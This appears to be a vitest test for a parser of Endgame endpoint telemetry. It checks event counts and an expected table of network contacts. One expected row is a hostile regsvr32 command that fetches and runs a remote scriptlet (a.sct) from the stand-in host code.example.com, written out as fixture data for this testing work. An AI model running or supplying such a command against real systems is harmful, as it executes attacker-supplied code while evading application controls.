import { test } from 'vitest';
import { expectFormat } from './expect-format';

test('Endgame, times as Windows file times', () =>
  expectFormat('endgame', 'endgame.json', {
    recognised: { network: 2, dns: 1, process: 1, other: 2 },
    contacts: `
      time      user       image         fqdn              arguments
      09:00:01  PC9\\nick  regsvr32.exe  code.example.com  regsvr32.exe /s /u /i:https://code.example.com/a.sct scrobj.dll
    `,
    skipped: { 'process-start': 1, 'other-event': 2, 'no-name': 1, inbound: 1 },
  }));
